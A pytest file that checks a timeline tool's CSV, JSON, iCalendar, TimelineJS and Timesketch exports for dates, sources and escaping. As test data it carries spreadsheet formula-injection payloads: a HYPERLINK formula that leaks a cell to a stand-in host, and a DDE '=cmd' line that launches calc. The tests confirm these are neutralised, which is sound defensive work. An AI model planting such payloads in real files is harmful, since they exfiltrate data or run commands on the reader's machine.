"""Every export format read back with a reader of its own (the csv module,
the JSON shapes checked field by field, icalendar's parser, TimelineJS3's
and Timesketch's documented fields, the edtf package): each holds every
visible event with its dates and sources, and no cell runs as a formula."""

from __future__ import annotations

import csv
import html
import io
import json
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from edtf import parse_edtf
from icalendar import Calendar

from timeline.export import ExportState, citation, export_events, export_set
from timeline.gui.wording import when_words
from timeline.model import Corpus, Document, Event, Granularity, Kind, Mention, Status, When
from timeline.pipeline import extract_corpus

G = Granularity
SEEDS = Path(__file__).resolve().parents[2] / "seeds"
HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'

PAGE_ONE = "The council met on 29-30 March 2011 in Bali. "
PAGE_TWO = ("=cmd|' /C calc'!A0 was typed in June 2012. Work resumed in spring 2016. "
            "Q3 2019 closed. The second half of 2004 was busy. In 2013 little happened. "
            "Mid-2013 saw a review. The 1990s were quiet. The 20th century ended. "
            "Around the 1970s it began. Mid-June 2012 was hot. The next day, talks "
            "resumed. Winter 2010-11 was cold. Around 2002 a plan was made.")
TEXT = PAGE_ONE + PAGE_TWO

# (phrase in TEXT, its date) for an invented event of every precision.
DATES = [
    ("29-30 March 2011", When(date(2011, 3, 29), date(2011, 3, 30), G.DAY)),
    ("June 2012", When(date(2012, 6, 1), date(2012, 6, 30), G.MONTH)),
    ("spring 2016", When(date(2016, 3, 1), date(2016, 5, 31), G.SEASON)),
    ("Q3 2019", When(date(2019, 7, 1), date(2019, 9, 30), G.QUARTER)),
    ("second half of 2004", When(date(2004, 7, 1), date(2004, 12, 31), G.HALF)),
    ("2013 little", When(date(2013, 1, 1), date(2013, 12, 31), G.YEAR)),
    ("Mid-2013", When(date(2013, 5, 1), date(2013, 8, 31), G.YEAR, approximate=True)),
    ("1990s", When(date(1990, 1, 1), date(1999, 12, 31), G.DECADE)),
    ("20th century", When(date(1901, 1, 1), date(2000, 12, 31), G.CENTURY)),
    ("1970s", When(date(1970, 1, 1), date(1979, 12, 31), G.DECADE, approximate=True)),
    ("Mid-June 2012", When(date(2012, 6, 11), date(2012, 6, 20), G.MONTH, approximate=True)),
    ("The next day", When(date(2011, 3, 31), date(2011, 3, 31), G.DAY, relative=True)),
    ("Winter 2010-11", When(date(2010, 12, 1), date(2011, 2, 28), G.SEASON)),
    ("2002", When(date(2002, 1, 1), date(2002, 12, 31), G.YEAR, approximate=True)),
]


def sentence_around(start: int) -> tuple[int, int]:
    first = TEXT.rfind(". ", 0, start)
    first = 0 if first < 0 else first + 2
    return first, TEXT.index(".", start) + 1


def invented_corpus() -> Corpus:
    doc = Document("doc1", "/archive/minutes.pdf", "Council minutes", date(2013, 1, 1), TEXT,
                   page_starts=(0, len(PAGE_ONE)))
    events = []
    for number, (phrase, when) in enumerate(DATES):
        start = TEXT.index(phrase)
        mention = Mention("doc1", (start, start + len(phrase)), phrase, when,
                          sentence_around(start))
        title = HOSTILE_TITLE if number == 1 else f"Event {number}: {phrase}"
        events.append(Event(f"e{number}", title, Kind.MEETING, ("Council",), when, (mention,)))
    return Corpus(documents=(doc,), events=tuple(events))


STATES = {
    "e0": ExportState(status="planned", edited=True, note="@SUM(A1:A9) checked by hand"),
    "e2": ExportState(starred=True, note="-2 days off"),
    "e3": ExportState(hidden=True),
}


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    seeds = extract_corpus([str(SEEDS)])
    mine = invented_corpus()
    return Corpus(documents=seeds.documents + mine.documents,
                  events=seeds.events + mine.events)


def visible(corpus: Corpus) -> list[Event]:
    return [e for e in corpus.events if not (e.id in STATES and STATES[e.id].hidden)]


def exported(corpus: Corpus, fmt: str, **options: Any) -> str:
    out = io.StringIO(newline="")
    count = export_events(corpus, fmt, out, STATES, title="Test collection", **options)
    if not options:
        assert count == len(visible(corpus))
    return out.getvalue()


def unguarded(cell: str) -> str:
    """A CSV cell as it was before the apostrophe that keeps a spreadsheet
    from running it as a formula."""
    return cell[1:] if cell[:2] in {"'=", "'+", "'-", "'@"} else cell


def edtf_days(text: str) -> tuple[date, date]:
    parsed = parse_edtf(text)
    low, high = parsed.lower_strict(), parsed.upper_strict()
    return date(*low[:3]), date(*high[:3])


def quote_of(document: Document, mention: Mention) -> str:
    return " ".join(document.text[mention.sentence[0]:mention.sentence[1]].split())


# --------------------------------------------------------------------- CSV
def test_csv_has_one_row_per_visible_event_with_dates_and_sources(corpus: Corpus) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(corpus, "csv"))))
    expected = visible(corpus)
    assert [row["event"] for row in rows] == [e.id for e in expected]
    documents = {d.id: d for d in corpus.documents}
    for row, event in zip(rows, expected, strict=True):
        assert (row["earliest"], row["latest"]) == (event.when.start.isoformat(),
                                                   event.when.end.isoformat())
        first, last = edtf_days(row["edtf"])
        assert first == event.when.start
        if not row["edtf"].endswith("-24"):  # the edtf package ends winter on 31 December
            assert last == event.when.end
        assert int(row["sources"]) == len(event.mentions)
        quotes = unguarded(row["quotes"]).split("\n")
        assert quotes == [quote_of(documents[m.document], m) for m in event.mentions]
        offsets = row["offsets"].split("\n")
        assert offsets == [f"{m.span[0]}-{m.span[1]}" for m in event.mentions]


def test_csv_keeps_the_users_decisions(corpus: Corpus) -> None:
    rows = {row["event"]: row for row in csv.DictReader(io.StringIO(exported(corpus, "csv")))}
    assert rows["e0"]["status"] == "planned" and rows["e0"]["edited"] == "True"
    assert rows["e1"]["status"] == "happened" and rows["e1"]["edited"] == "False"
    assert rows["e2"]["starred"] == "True"
    assert "e3" not in rows
    assert rows["e0"]["pages"] == "1" and rows["e4"]["pages"] == "2"


def test_csv_formulas_are_neutralised(corpus: Corpus) -> None:
    rows = {row["event"]: row for row in csv.DictReader(io.StringIO(exported(corpus, "csv")))}
    assert rows["e1"]["title"] == "'" + HOSTILE_TITLE
    assert rows["e0"]["note"].startswith("'@")
    assert rows["e2"]["note"].startswith("'-")
    assert rows["e1"]["quotes"].startswith("'=cmd")
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@")), cell


def test_hidden_events_can_be_asked_for(corpus: Corpus) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(corpus, "csv", include_hidden=True))))
    assert len(rows) == len(corpus.events)


def test_only_the_filtered_events_are_written(corpus: Corpus) -> None:
    chosen = [e for e in corpus.events if e.when.start.year == 2013]
    assert chosen
    rows = list(csv.DictReader(io.StringIO(exported(corpus, "csv", events=chosen))))
    assert [row["event"] for row in rows] == [e.id for e in chosen]


# -------------------------------------------------------------------- JSON
def check_when(data: dict[str, Any], when: When) -> None:
    assert set(data) == {"start", "end", "granularity", "approximate", "relative"}
    assert When.from_json(data) == when


def test_json_is_the_extract_shape_with_edtf_and_state(corpus: Corpus) -> None:
    data = json.loads(exported(corpus, "json"))
    assert set(data) == {"title", "documents", "events"}
    assert data["title"] == "Test collection"
    docs = {d["id"]: d for d in data["documents"]}
    assert set(docs) == {d.id for d in corpus.documents}
    for doc in docs.values():
        assert {"id", "path", "title", "date", "chars"} <= set(doc)
    originals = {e.id: e for e in corpus.events}
    documents = {d.id: d for d in corpus.documents}
    assert [e["id"] for e in data["events"]] == [e.id for e in visible(corpus)]
    for item in data["events"]:
        event = originals[item["id"]]
        # The extract shape, read by the model; its status is the one shown
        # (the user's when they set one).
        assert Event.from_json(item) == replace(event, status=Status(item["status"]))
        check_when(item["when"], event.when)
        assert edtf_days(item["edtf"])[0] == event.when.start
        assert item["status"] in {"happened", "planned"}
        assert isinstance(item["edited"], bool) and isinstance(item["note"], str)
        for mention, original in zip(item["mentions"], event.mentions, strict=True):
            assert mention["document"] in docs
            assert mention["quote"] == quote_of(documents[original.document], original)
            assert mention["page"] is None or isinstance(mention["page"], int)
    by_id = {e["id"]: e for e in data["events"]}
    assert (by_id["e0"]["status"], by_id["e0"]["edited"]) == ("planned", True)
    assert by_id["e0"]["note"] == STATES["e0"].note


# ---------------------------------------------------------------- iCalendar
def test_ics_has_an_all_day_event_for_each(corpus: Corpus) -> None:
    text = exported(corpus, "ics")
    assert "\r\n" in text
    calendar = Calendar.from_ical(text)
    vevents = list(calendar.walk("VEVENT"))
    expected = visible(corpus)
    assert len(vevents) == len(expected)
    assert len({str(v["uid"]) for v in vevents}) == len(vevents)
    documents = {d.id: d for d in corpus.documents}
    for vevent, event in zip(vevents, expected, strict=True):
        start, end = vevent.decoded("dtstart"), vevent.decoded("dtend")
        assert type(start) is date and type(end) is date  # all day, no time
        assert (start, end) == (event.when.start, event.when.end + timedelta(days=1))
        assert str(vevent["summary"]) == event.title
        description = str(vevent["description"])
        for mention in event.mentions:
            assert quote_of(documents[mention.document], mention) in description
        assert edtf_days(str(vevent["x-timeline-edtf"]))[0] == event.when.start
    statuses = {str(v["uid"]).split("@")[0]: str(v["status"]) for v in vevents}
    assert statuses["e0"] == "TENTATIVE" and statuses["e1"] == "CONFIRMED"


# ---------------------------------------------------------------- TimelineJS
def check_tl_date(data: dict[str, Any]) -> date:
    """A TimelineJS3 date object: ``year`` required, ``month`` and ``day``
    optional integers; returns the first day it names."""
    assert set(data) <= {"year", "month", "day"} and "year" in data
    assert "day" not in data or "month" in data
    assert all(isinstance(value, int) for value in data.values())
    return date(data["year"], data.get("month", 1), data.get("day", 1))


def test_timelinejs_slides_carry_dates_to_their_precision(corpus: Corpus) -> None:
    data = json.loads(exported(corpus, "timelinejs"))
    assert isinstance(data["events"], list)
    assert html.unescape(data["title"]["text"]["headline"]) == "Test collection"
    expected = visible(corpus)
    assert len(data["events"]) == len(expected)
    slides = {s["unique_id"]: s for s in data["events"]}
    assert len(slides) == len(expected)
    for slide, event in zip(data["events"], expected, strict=True):
        assert set(slide) <= {"start_date", "end_date", "text", "media", "group",
                              "display_date", "background", "autolink", "unique_id"}
        assert check_tl_date(slide["start_date"]) == event.when.start
        if "end_date" in slide:
            assert check_tl_date(slide["end_date"]) <= event.when.end
        assert html.unescape(slide["text"]["headline"]) == event.title
        assert isinstance(slide["text"]["text"], str) and isinstance(slide["group"], str)
        assert slide["display_date"].startswith(when_words(event.when))
    by_id = {s["unique_id"].removeprefix("event-"): s for s in data["events"]}
    assert by_id["e5"]["start_date"] == {"year": 2013}  # a year: no month, no day
    assert by_id["e5"].get("end_date") is None
    assert by_id["e1"]["start_date"] == {"year": 2012, "month": 6}
    assert by_id["e6"]["start_date"] == {"year": 2013, "month": 5}  # mid-2013
    assert by_id["e6"]["end_date"] == {"year": 2013, "month": 8}
    assert by_id["e6"]["display_date"] == "mid-2013"
    assert by_id["e0"]["end_date"] == {"year": 2011, "month": 3, "day": 30}
    # The passage is HTML-escaped: a quoted "<" cannot open a tag.
    assert "<script" not in json.dumps(data)


# ---------------------------------------------------------------- Timesketch
def test_timesketch_rows_have_the_required_columns(corpus: Corpus) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(corpus, "timesketch"))))
    assert {"message", "datetime", "timestamp_desc"} <= set(rows[0])
    expected = visible(corpus)
    assert len(rows) == len(expected)
    for row, event in zip(rows, expected, strict=True):
        moment = datetime.fromisoformat(row["datetime"])
        assert moment.tzinfo is not None and moment.utcoffset() == timedelta(0)
        assert moment.date() == event.when.start
        assert int(row["timestamp"]) == round(moment.timestamp() * 1_000_000)
        assert row["message"] and row["timestamp_desc"]
        assert row["message"].lstrip("'").startswith(event.title)
        assert row["latest"] == event.when.end.isoformat()
    hostile = next(row for row in rows if row["event"] == "e1")
    assert hostile["message"].startswith("'=")


# ---------------------------------------------------------------- citations
def test_citation_as_text_and_html(corpus: Corpus) -> None:
    record = next(r for r in export_set(corpus, STATES).records if r.event.id == "e4")
    cited = citation(record)
    quote = quote_of(corpus.document("doc1"), record.event.mentions[0])
    for part in (record.event.title, "the second half of 2004", "Council minutes", "p. 2",
                 quote):
        assert part in cited.text
    root = ET.fromstring(cited.html)  # well-formed: escaped where it must be
    assert root.find("cite").text == "Council minutes"
    assert root.find("q").text == quote
    assert "".join(root.itertext()).startswith(record.event.title)


def test_citation_html_escapes_markup() -> None:
    corpus = invented_corpus()
    event = corpus.events[0]
    corpus = Corpus(corpus.documents, (Event(event.id, "<b>Talks</b> & more", event.kind,
                                             event.actors, event.when, event.mentions),))
    cited = citation(export_set(corpus).records[0])
    assert ET.fromstring(cited.html).find("strong").text == "<b>Talks</b> & more"
    assert cited.text.startswith("<b>Talks</b> & more, 29–30 March 2011.")


def test_the_edits_own_states_are_read() -> None:
    """The state the edits keep (status None until the user sets one) is
    exported as the contract says."""
    from timeline.edits import EventState, Status

    corpus = invented_corpus()
    states = {"e0": EventState(status=Status.PLANNED, edited=True, note="moved"),
              "e1": EventState(), "e2": EventState(hidden=True)}
    out = io.StringIO()
    assert export_events(corpus, "json", out, states) == len(corpus.events) - 1
    events = {e["id"]: e for e in json.loads(out.getvalue())["events"]}
    assert (events["e0"]["status"], events["e0"]["edited"], events["e0"]["note"]) == (
        "planned", True, "moved")
    assert (events["e1"]["status"], events["e1"]["edited"]) == ("happened", False)
    assert "e2" not in events
